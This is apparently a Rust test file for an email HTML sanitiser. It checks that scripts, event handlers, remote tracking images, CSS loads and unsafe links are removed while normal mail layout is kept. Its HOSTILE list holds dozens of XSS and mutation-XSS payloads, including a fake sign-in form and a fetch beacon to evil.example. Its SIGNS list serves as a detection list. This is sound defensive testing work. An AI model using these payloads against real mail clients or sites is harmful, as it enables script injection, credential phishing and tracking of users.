use super::*;

fn cleaned(raw: &str) -> String {
    sanitise(raw).map(|mail| mail.html).unwrap_or_default()
}

/// Mail that wants to act, to ask, to load or to hide. What is left of each may hold none of the signs.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/p.gif\" onload=\"fetch('//evil.example')\">",
    "<svg onload=alert(1)><image href=https://evil.example/a.png></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example)}</style>",
    "<div style=\"background:url(https://evil.example/p.gif)\">a</div>",
    "<div style=\"background-image:u\\72l(https://evil.example/p.gif)\">a</div>",
    "<div style=\"color:red;width:e/**/xpression(alert(1))\">a</div>",
    "<div style=\"position:fixed;inset:0;z-index:9\">covers the frame</div>",
    "<div style=\"color: image-set('https://evil.example/p.gif' 1x)\">a</div>",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\" java\nscript:alert(1)\">a</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
    "<a href=\"vbscript:x\">a</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
    "<img src=\"cid:logo@mail\">",
    "<img srcset=\"https://evil.example/p.gif 1x\">",
    "<picture><source srcset=https://evil.example/p.gif></picture>",
    "<video poster=https://evil.example/p.gif src=https://evil.example/v.mp4></video><audio src=https://evil.example>",
    "<table background=https://evil.example/p.gif><tr><td>a</td></tr></table>",
    "<body background=https://evil.example/p.gif onload=alert(1)>a</body>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<a href=\"https://ok.example\" ping=\"https://evil.example\" download>a</a>",
    "<p id=x name=y class=z contenteditable tabindex=1 autofocus onfocus=alert(1)>a</p>",
    "<input type=image src=https://evil.example/p.gif>",
    "<isindex action=https://evil.example>",
    "<blink onclick=alert(1)>a",
];

const SIGNS: &[&str] = &[
    "<script",
    "onerror=",
    "onload=",
    "onfocus=",
    "onclick=",
    "<svg",
    "<math",
    "<form",
    "<input",
    "<button",
    "<iframe",
    "<object",
    "<embed",
    "<meta",
    "<base",
    "<link",
    "<style",
    "url(",
    "javascript:",
    "vbscript:",
    "data:text",
    "svg+xml",
    "cid:",
    "srcset",
    "<picture",
    "<source",
    "<video",
    "<audio",
    "background=",
    "<body",
    "<template",
    "<!--",
    "<plaintext",
    "<xmp",
    "ping=",
    "download",
    "contenteditable",
    "autofocus",
    "expression",
    "position",
    "image-set",
    "class=",
];

#[test]
fn nothing_of_a_hostile_mail_acts_asks_or_hides() {
    for raw in HOSTILE {
        let html = cleaned(raw);
        // Words may speak of anything; only markup is looked at.
        let markup: String = html
            .split('<')
            .skip(1)
            .map(|tag| format!("<{tag}"))
            .collect();
        let outside_of_titles = markup.replace("&lt;", "").to_ascii_lowercase();
        for sign in SIGNS {
            assert!(
                !outside_of_titles.contains(sign),
                "{raw}\n  gave {html}\n  which holds {sign}"
            );
        }
    }
}

#[test]
fn cleaning_what_is_clean_changes_nothing() {
    // The two attributes that are set on every link have no order of their own.
    let ordered = |html: String| {
        html.replace(
            "rel=\"noopener noreferrer nofollow\" target=\"_blank\"",
            "target=\"_blank\" rel=\"noopener noreferrer nofollow\"",
        )
    };
    let plain = "<p>a <b>b</b><img src=\"http://x.example/a.png\" alt=\"c\"></p>";
    for raw in HOSTILE.iter().chain([&plain]) {
        let once = cleaned(raw);
        assert_eq!(ordered(cleaned(&once)), ordered(once), "{raw}");
    }
}

#[test]
fn links_open_elsewhere_and_tell_nobody_where_from() {
    assert_eq!(
        cleaned("<a href=\"https://ok.example/a?b=1&amp;c=2\">a</a>"),
        "<a href=\"https://ok.example/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">a</a>"
    );
    for kept in ["mailto:help@example.com", "tel:+49301234"] {
        assert!(cleaned(&format!("<a href=\"{kept}\">a</a>")).contains(kept));
    }
    for gone in [
        "/v1/session",
        "//evil.example",
        "ftp://x.example",
        "data:image/png;base64,AA==",
    ] {
        assert!(
            !cleaned(&format!("<a href=\"{gone}\">a</a>")).contains("href"),
            "{gone}"
        );
    }
}

#[test]
fn what_a_mail_looks_like_is_kept() {
    let raw = "<table width=\"100%\"><tbody><tr><td bgcolor=\"#eee\" style=\"text-align:center;color:#222\">Total: \
               <strong>42 €</strong></td></tr></tbody></table><p dir=\"rtl\" lang=\"ar\">مرحبا</p>";
    assert_eq!(cleaned(raw), raw);
}

#[test]
fn remote_images_are_counted_and_come_over_tls() {
    let mail = sanitise(
        "<img src=\"http://a.example/1.png\"><img src=\"HTTPS://b.example/2.png\"><img src=\"//c.example/3.png\">\
         <img src=\"data:image/png;base64,AA==\"><img alt=\"no source\"><p title='<img src=\"https://d.example\">'>x</p>",
    )
    .unwrap();
    assert_eq!(mail.remote_images, 2, "{}", mail.html);
    assert!(mail.html.contains("https://a.example/1.png"));
}

#[test]
fn without_consent_remote_images_are_words() {
    let mail = "<p>Hi<img src=\"https://a.example/1.png\" alt=\"Our <new> &amp; old logo\">\
                <img src=\"https://pixel.example/?id=7\"><img src=\"data:image/png;base64,AA==\"></p>";
    let html = sanitise(mail).unwrap().html;
    let blocked = page("t", None, &html, false);
    assert!(
        !blocked.contains("a.example") && !blocked.contains("pixel.example"),
        "{blocked}"
    );
    assert!(
        blocked.contains("<span class=\"image\">Our &lt;new&gt; &amp; old logo</span>"),
        "{blocked}"
    );
    assert!(blocked.contains("data:image/png;base64,AA=="));
    let allowed = page("t", None, &html, true);
    assert!(
        allowed.contains("https://a.example/1.png")
            && allowed.contains("https://pixel.example/?id=7")
    );
}

#[test]
fn title_and_language_cannot_break_out_of_the_page() {
    let html = page(
        "</title><script>alert(1)</script>",
        Some("en\"><script>"),
        "<p>a</p>",
        false,
    );
    assert!(!html.contains("<script"), "{html}");
}

#[test]
fn a_mail_with_colours_of_its_own_stays_on_white() {
    assert!(
        page("t", None, "<p style=\"color:#000\">a</p>", false).contains("class=\"own-colours\"")
    );
    assert!(!page("t", None, "<p>a</p>", false).contains("<html class"));
}

#[test]
fn a_mail_of_nothing_but_markup_is_no_html_mail() {
    assert_eq!(sanitise("<script>alert(1)</script> \n"), None);
}

#[test]
fn deep_and_broken_markup_ends() {
    // What called itself for every level would need more than this little stack has.
    let deep = || "<div>".repeat(4_000) + "end";
    let little = std::thread::Builder::new().stack_size(512 * 1024);
    let cleaned = little.spawn(move || cleaned(&deep())).unwrap().join();
    assert!(cleaned.unwrap().contains("end"));
    assert!(page("t", None, "<p title=\"unclosed", false).contains("</html>"));
}
